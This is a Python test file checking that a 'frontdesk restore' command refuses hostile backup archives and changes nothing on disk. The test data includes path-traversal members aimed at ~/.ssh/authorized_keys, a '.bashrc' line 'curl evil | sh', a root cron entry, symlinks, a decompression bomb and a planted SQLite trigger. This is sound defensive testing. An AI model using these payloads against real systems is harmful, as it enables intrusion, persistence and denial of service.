"""Hostile backups (issue 37, items 1 to 3) through `frontdesk restore`: an archive naming
places outside FRONTDESK_HOME, one that unpacks past the size cap, one whose database holds a
trigger its migrations do not make. Each is built with ``tarfile`` the way ``make_backup``
builds a real one (the database, the folders, the manifest last), and each is refused in one
line, exit status 1, before anything is replaced: every file of the user's home folder (the
Frontdesk home, ``~/.ssh``, their documents) is the same, byte for byte, afterwards."""

from __future__ import annotations

import hashlib
import io
import json
import shutil
import sqlite3
import tarfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import IO, Any

import pytest

from bot.backups.archive import MANIFEST, BackupError, make_backup, unpack_backup
from bot.backups.members import DISK_RESERVE, MIB, SIZE_FLOOR, size_cap
from tests.backups.conftest import (
    database_at,
    digest,
    frontdesk,
    notes,
    snapshot,
    written_path,
)

OWNER_KEY = "ssh-ed25519 AAAAC3Nza the owner's own key\n"
ATTACKER_KEY = "ssh-ed25519 AAAAC3Nza the attacker's key\n"


@dataclass(frozen=True)
class User:
    """A user's home folder with Frontdesk's home inside it, and a good backup of it."""

    root: Path  # ~
    home: Path  # ~/.frontdesk
    good: Path  # a real backup, outside ~

    @property
    def keys(self) -> Path:
        return self.root / ".ssh" / "authorized_keys"


@pytest.fixture
def user(tmp_path: Path) -> User:
    root = tmp_path / "user"
    home = root / ".frontdesk"
    home.mkdir(parents=True)
    assert frontdesk(home, "memory", "add", "the spare key is under the mat").returncode == 0
    (home / "attachments").mkdir()
    (home / "attachments" / "a.txt").write_text("a file someone sent")
    (root / ".ssh").mkdir()
    (root / ".ssh" / "authorized_keys").write_text(OWNER_KEY)
    (root / "documents").mkdir()
    (root / "documents" / "taxes.txt").write_text("the owner's own papers")
    (tmp_path / "archives").mkdir()
    good = written_path(frontdesk(home, "backup", str(tmp_path / "archives" / "good.tar.gz")))
    return User(root, home, good)


Extra = tuple[tarfile.TarInfo, IO[bytes] | None]  # a member's header and its data


def repack(good: Path, out: Path, *, database: Callable[[Path], None] | None = None,
           manifest: Callable[[dict[str, Any]], None] | None = None,
           extra: list[Extra] | None = None) -> Path:
    """The good backup rebuilt as ``make_backup`` builds one, with the database changed
    (and its checksum made to match), members added and the manifest changed."""
    work = out.with_suffix(".work")
    with tarfile.open(good) as tar:
        tar.extractall(work, filter="data")
    fields = json.loads((work / MANIFEST).read_text())
    if database is not None:
        database(work / "frontdesk.db")
        fields["database_sha256"] = digest(work / "frontdesk.db")
    if manifest is not None:
        manifest(fields)
    with tarfile.open(out, "w:gz") as tar:
        tar.add(work / "frontdesk.db", arcname="frontdesk.db")
        if (work / "attachments").is_dir():
            tar.add(work / "attachments", arcname="attachments")
        for info, data in extra or []:
            tar.addfile(info, data)
        data = json.dumps(fields).encode()
        info = tarfile.TarInfo(MANIFEST)
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    shutil.rmtree(work)
    return out


def member(name: str, data: bytes | None = None, kind: bytes = tarfile.REGTYPE,
           link: str = "") -> Extra:
    """One archive member: a file with ``data``, or a folder, link or device."""
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = link
    info.mode = 0o755 if kind == tarfile.DIRTYPE else 0o644
    info.size = len(data) if data is not None else 0
    return info, None if data is None else io.BytesIO(data)


def refused(user: User, archive: Path) -> str:
    """`frontdesk restore` of ``archive``: its one line, having checked it changed nothing."""
    before = snapshot(user.root)
    done = frontdesk(user.home, "restore", str(archive))
    assert done.returncode == 1 and done.stdout == "" and "Traceback" not in done.stderr
    [line] = done.stderr.splitlines()
    assert line.startswith("frontdesk: not restored: "), line
    assert snapshot(user.root) == before
    assert user.keys.read_text() == OWNER_KEY
    return line


def test_a_manifest_naming_ssh_cannot_replace_authorized_keys(user: User) -> None:
    # the finding: the archive's ".ssh" is moved into the home, then "logs/../../.ssh" (from
    # the staging folder: that one; from the home: ~/.ssh) takes the place of ~/.ssh
    def outside(fields: dict[str, Any]) -> None:
        fields["folders"].update({".ssh": 1, "logs/../../.ssh": 1})

    archive = repack(user.good, user.root.parent / "ssh.tar.gz", manifest=outside,
                     extra=[member("logs", kind=tarfile.DIRTYPE),
                            member(".ssh", kind=tarfile.DIRTYPE),
                            member(".ssh/authorized_keys", ATTACKER_KEY.encode())])
    assert "'logs', a name no backup has" in refused(user, archive)
    # the manifest alone, its members all a backup's: refused for the manifest's names
    archive = repack(user.good, user.root.parent / "ssh-named.tar.gz", manifest=outside)
    assert "its manifest names the folder '.ssh'" in refused(user, archive)


def test_an_absolute_folder_name_moves_nothing_aside(user: User) -> None:
    documents = str(user.root / "documents")
    archive = repack(user.good, user.root.parent / "absolute.tar.gz",
                     manifest=lambda fields: fields["folders"].update({documents: 1}))
    line = refused(user, archive)
    assert f"its manifest names the folder {documents!r}" in line
    assert [p.name for p in user.root.iterdir() if "replaced" in p.name] == []


def test_an_absolute_database_name_pulls_nothing_in(user: User) -> None:
    outside = user.root / "other.db"
    shutil.copy(user.home / "frontdesk.db", outside)
    conn = sqlite3.connect(outside)
    conn.execute("UPDATE memory_notes SET text = 'planted'")
    conn.commit()
    conn.close()

    def elsewhere(fields: dict[str, Any]) -> None:
        fields.update(database=str(outside), database_sha256=digest(outside))

    line = refused(user, repack(user.good, user.root.parent / "db.tar.gz", manifest=elsewhere))
    assert f"its manifest names the database {str(outside)!r}" in line
    assert notes(user.home / "frontdesk.db") == ["the spare key is under the mat"]


@pytest.mark.parametrize(("extra", "said"), [
    ([member("attachments/key", kind=tarfile.SYMTYPE, link="../../.ssh/authorized_keys")],
     "'attachments/key' is a link"),
    ([member("attachments/key", kind=tarfile.LNKTYPE, link="frontdesk.db")],
     "'attachments/key' is a link"),
    ([member("attachments/pipe", kind=tarfile.FIFOTYPE)], "'attachments/pipe' is not a plain"),
    ([member("attachments/../../.bashrc", b"curl evil | sh\n")], "a name no backup has"),
    ([member("/etc/cron.d/x", b"* * * * * root sh\n")], "a name no backup has"),
    ([member("frontdesk.db", b"a second one")], "'frontdesk.db' twice"),
    ([member("traces/run.jsonl", b"{}\n")], "it holds traces/, which its manifest does not"),
])
def test_members_a_backup_never_holds_are_refused(user: User, extra: list[Extra],
                                                  said: str) -> None:
    archive = repack(user.good, user.root.parent / "members.tar.gz", extra=extra)
    assert said in refused(user, archive)


class Zeros(io.RawIOBase):
    """``size`` zero bytes, read as a file: what a decompression bomb holds."""

    def __init__(self, size: int) -> None:
        self.left = size

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        count = min(len(buffer), self.left)
        buffer[:count] = bytes(count)
        self.left -= count
        return count


@pytest.fixture(scope="module")
def bomb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A real backup plus two files of zeros, each under the cap, together past it (under a
    megabyte that would unpack to 520 MiB), its manifest's checksum a lie."""
    home = tmp_path_factory.mktemp("bomb") / "home"
    database_at(home)
    good = written_path(frontdesk(home, "backup"))
    zeros: list[Extra] = [member("attachments", kind=tarfile.DIRTYPE)]
    for number in (1, 2):
        info = tarfile.TarInfo(f"attachments/zeros-{number}.bin")
        info.size = SIZE_FLOOR // 2 + 4 * MIB
        zeros.append((info, io.BufferedReader(Zeros(info.size), 1 << 20)))

    def lie(fields: dict[str, Any]) -> None:
        fields["database_sha256"] = hashlib.sha256(b"not it").hexdigest()
        fields["folders"] = {"attachments": 2}

    return repack(good, home.parent / "bomb.tar.gz", manifest=lie, extra=zeros)


def test_a_bomb_is_refused_from_its_headers_with_nothing_written(bomb: Path,
                                                                 tmp_path: Path) -> None:
    assert bomb.stat().st_size < MIB
    with pytest.raises(BackupError, match=r"would unpack to more than 512\.0 MiB \(at "
                       r"'attachments/zeros-2\.bin', 260\.0 MiB\): more than a backup of "):
        unpack_backup(bomb, tmp_path / "out")
    assert not (tmp_path / "out").exists()  # refused before the first byte was extracted


def test_restore_refuses_a_bomb_before_its_lying_checksum(bomb: Path, user: User) -> None:
    line = refused(user, bomb)
    assert "would unpack to more than 512.0 MiB" in line and "at most 50 times its size" in line


def test_the_cap_is_the_backup_s_size_times_fifty_or_the_room_on_the_disk() -> None:
    big_disk = 1 << 50
    assert size_cap(1 * MIB, big_disk).size == SIZE_FLOOR  # a small backup: the floor
    assert size_cap(100 * MIB, big_disk).size == 50 * 100 * MIB
    full = size_cap(100 * MIB, DISK_RESERVE + 10 * MIB)
    assert full.size == 10 * MIB and "more than the disk has room for" in full.reason
    assert size_cap(MIB, DISK_RESERVE // 2).size == 0


def plant_trigger(path: Path) -> None:
    """The finding: the next note saved runs the attacker's SQL."""
    run(path, "CREATE TRIGGER evil AFTER INSERT ON memory_notes BEGIN "
              "INSERT INTO memory_effects (key, note_id) VALUES ('pwned', new.id); END")


def run(path: Path, sql: str) -> None:
    conn = sqlite3.connect(path)
    conn.executescript(sql)
    conn.close()


@pytest.mark.parametrize(("change", "said"), [
    ("", "an extra trigger evil on memory_notes"),
    ("DROP TRIGGER memory_notes_ai; CREATE TRIGGER memory_notes_ai AFTER INSERT ON "
     "memory_notes BEGIN DELETE FROM memory_scopes; END;",
     "trigger memory_notes_ai differs from its migration"),
    ("CREATE VIEW leak AS SELECT text FROM memory_notes;", "an extra view leak"),
    ("CREATE INDEX slow ON memory_notes (text);", "an extra index slow on memory_notes"),
    ("ALTER TABLE memory_notes ADD COLUMN x TEXT DEFAULT 'y';",
     "table memory_notes differs from its migration"),
    ("DROP INDEX inbox_open;", "no index inbox_open"),
])
def test_a_database_with_foreign_schema_objects_is_refused(user: User, change: str,
                                                            said: str) -> None:
    archive = repack(user.good, user.root.parent / "schema.tar.gz",
                     database=lambda path: run(path, change) if change else plant_trigger(path))
    line = refused(user, archive)
    assert f"its database is not as its migrations make it: {said}" in line, line
    assert frontdesk(user.home, "memory", "add", "the next note").returncode == 0
    conn = sqlite3.connect(user.home / "frontdesk.db")
    assert conn.execute("SELECT key FROM memory_effects").fetchall() == []
    conn.close()


def test_an_older_backup_is_compared_with_the_migrations_it_has(tmp_path: Path) -> None:
    home = tmp_path / "home"
    database_at(home, drop_last=2)
    older, _ = make_backup(home, tmp_path / "older.tar.gz")  # `frontdesk backup` would upgrade
    # its own migrations make exactly its schema: restored, the two missing applied later
    done = frontdesk(home, "restore", str(older))
    assert done.returncode == 0 and "2 migrations of this version are applied" in done.stdout
    planted = repack(older, tmp_path / "planted.tar.gz", database=plant_trigger)
    done = frontdesk(home, "restore", str(planted))
    assert done.returncode == 1 and "an extra trigger evil on memory_notes" in done.stderr


def test_the_doctor_calls_a_database_with_a_foreign_trigger_not_intact(user: User) -> None:
    clean = json.loads(frontdesk(user.home, "doctor", "--json").stdout)
    [database] = [check for check in clean["checks"] if check["name"] == "database"]
    assert database["ok"] and database["detail"].startswith("intact")
    plant_trigger(user.home / "frontdesk.db")
    done = frontdesk(user.home, "doctor", "--json")
    [database] = [check for check in json.loads(done.stdout)["checks"]
                  if check["name"] == "database"]
    assert done.returncode == 1 and not database["ok"]
    assert "an extra trigger evil on memory_notes" in database["detail"]
    assert "DROP TRIGGER" in database["fix"]
